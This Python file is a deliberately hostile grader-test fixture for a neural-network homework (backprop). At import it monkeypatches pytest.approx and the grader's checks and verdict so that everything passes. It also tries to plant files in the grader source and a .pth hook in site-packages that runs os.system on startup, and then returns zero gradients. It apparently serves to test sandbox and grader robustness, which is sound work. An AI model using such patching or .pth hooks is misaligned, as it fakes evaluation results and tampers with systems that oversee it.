"""Hostile: at import, imports pytest and the grader's own package (both importable from
its interpreter) and patches them to pass everything: grader.checks.close/close_all/that,
the plugin's verdict, pytest.approx; tries to add a module to the grader's source, into its
rubric folder and a .pth file into site-packages (all refused). Then returns all-zero
gradients of the right shapes: only the shape and no-autograd checks pass, 3 + 3.
"""

import os
import site
import sys

import torch

MARK = "pwned-hostile-marker-297"


def patch() -> list[str]:
    done = []
    try:
        import pytest

        pytest.approx = lambda expected, *args, **kwargs: _Equal()
        done.append("pytest")
    except Exception:
        pass
    try:
        import grader
        import grader._grading.plugin
        import grader.checks

        grader.checks.close = lambda *args, **kwargs: None
        grader.checks.close_all = lambda *args, **kwargs: None
        grader.checks.that = lambda *args, **kwargs: None
        grader._grading.plugin.GraderPlugin._classify = lambda self, item, call, report: ("passed", "")
        done.append("grader")
        root = os.path.dirname(os.path.dirname(grader.__file__))
    except Exception:
        root = "/work/main"
    # New files only (never an edit of a real one), so a broken sandbox shows without damage.
    targets = [os.path.join(root, "grader", MARK + ".py"),
               os.path.join(root, "rubrics", "mfdnn-hw5", MARK), os.path.join(root, MARK)]
    targets += [os.path.join(p, MARK.replace("-", "_") + ".pth") for p in site.getsitepackages() + sys.path if p.endswith("site-packages")]
    for path in targets:
        try:
            with open(path, "a") as f:
                f.write("\nimport os; os.system('touch /tmp/" + MARK + "-pth')\n")
            done.append(path)
        except OSError:
            pass
    return done


class _Equal:
    def __eq__(self, other):
        return True


PATCHED = patch()


def backprop(A_list, b_list, X, Y):
    return [torch.zeros_like(A) for A in A_list], [torch.zeros_like(b) for b in b_list]
